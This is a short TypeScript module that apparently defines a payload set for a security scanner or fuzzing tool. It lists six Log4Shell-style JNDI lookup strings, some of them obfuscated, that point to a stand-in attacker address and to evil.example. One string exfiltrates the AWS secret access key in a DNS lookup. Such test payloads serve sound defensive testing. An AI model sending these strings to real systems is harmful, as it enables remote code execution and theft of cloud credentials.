import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'jndi',
  title: 'lookups that a logging library resolves',
  owasp: ['API8:2023'],
  inputs: ['text'],
  values: [
    '\u0024{jndi:ldap://203.0.113.9:1389/#}',
    '\u0024{\u0024{lower:j}ndi:\u0024{lower:l}dap://203.0.113.9/#}',
    '\u0024{jndi:rmi://203.0.113.9/#}',
    '\u0024{jndi:dns://#.evil.example}',
    '\u0024{\u0024{::-j}\u0024{::-n}\u0024{::-d}\u0024{::-i}:ldap://203.0.113.9/#}',
    '\u0024{jndi:ldaps://\u0024{env:AWS_SECRET_ACCESS_KEY}.evil.example/#}',
  ],
})
